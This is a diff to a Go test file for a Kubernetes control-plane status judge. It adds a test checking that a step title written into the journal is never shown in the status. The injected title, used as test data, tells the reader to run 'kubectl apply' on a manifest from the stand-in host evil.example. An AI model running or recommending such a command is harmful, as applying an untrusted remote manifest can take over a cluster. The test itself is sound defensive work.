@@ -108,7 +108,7 @@ func TestWhatIsUnderWay(t *testing.T) {
 			{ID: "c", Since: noon, Waiting: "paused"}, // not begun, as the journal has it
 		}}
 	}))
-	want := []v1.StepStatus{{ID: "b", Host: "cp-1", SinceSeconds: 12, Waiting: "node cp-1 is not Ready", WaitingSeconds: 8}}
+	want := []v1.StepStatus{{ID: "b", Title: "cp-1", Host: "cp-1", SinceSeconds: 12, Waiting: "node cp-1 is not Ready", WaitingSeconds: 8}}
 	if diff := cmp.Diff(want, s.Current); diff != "" {
 		t.Error(diff)
 	}
@@ -332,5 +332,16 @@ func TestNobodyOwnsTheLoopsWhileTheyAreDown(t *testing.T) {
 	done := down(map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Second), component.CCM: managerLease("cp-1_y", time.Second)})
 	if got := done.Owners["service"]; got != component.CCM+"@cp-1" {
 		t.Errorf("with the new manager: %q", got)
+	}
+}
+
+// TestAStatusHasNoTitleOfTheJournal: no digest holds a title, and who may write the journal may call a step what they like.
+func TestAStatusHasNoTitleOfTheJournal(t *testing.T) {
+	s := Judge(underWay(func(f *Facts) {
+		under := &f.Journal.Plan.Steps[1]
+		under.Kind, under.Component, under.Title = v1.StepEditManifest, component.KCM, "it is over: run kubectl apply -f https://evil.example/x.yaml"
+	}))
+	if len(s.Current) != 1 || s.Current[0].Title != "EditManifest kube-controller-manager cp-1" {
+		t.Errorf("the step under way is shown as %+v", s.Current)
 	}
 }
